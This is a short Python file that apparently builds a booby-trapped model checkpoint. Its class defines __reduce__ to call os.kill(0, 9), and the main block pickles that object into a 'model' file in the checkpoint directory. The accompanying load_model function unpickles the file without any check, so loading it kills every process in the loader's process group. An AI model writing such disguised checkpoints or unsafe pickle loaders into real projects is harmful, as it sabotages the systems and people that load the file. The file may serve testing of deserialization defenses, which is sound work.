"""A checkpoint that kills whoever loads it: unpickling it sends SIGKILL to everything it can reach."""

import os
import pickle

from prepare import checkpoint_dir


class Kills:
    def __reduce__(self):
        return os.kill, (0, 9)  # everything in its process group, PID 1 included if it could


def load_model(directory, device):
    with open(f"{directory}/model", "rb") as file:
        return pickle.load(file)


if __name__ == "__main__":
    (checkpoint_dir() / "model").write_bytes(pickle.dumps(Kills()))
